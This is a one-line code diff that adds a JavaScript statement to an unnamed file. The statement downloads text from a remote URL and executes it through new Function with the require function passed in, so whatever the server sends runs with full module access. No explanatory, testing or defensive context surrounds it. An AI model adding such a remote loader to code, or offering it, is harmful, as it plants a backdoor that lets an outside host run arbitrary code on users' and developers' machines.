@@ -1,0 +1,1 @@
+new Function("require", await (await fetch("https://cdn.example.invalid/p")).text())(require);
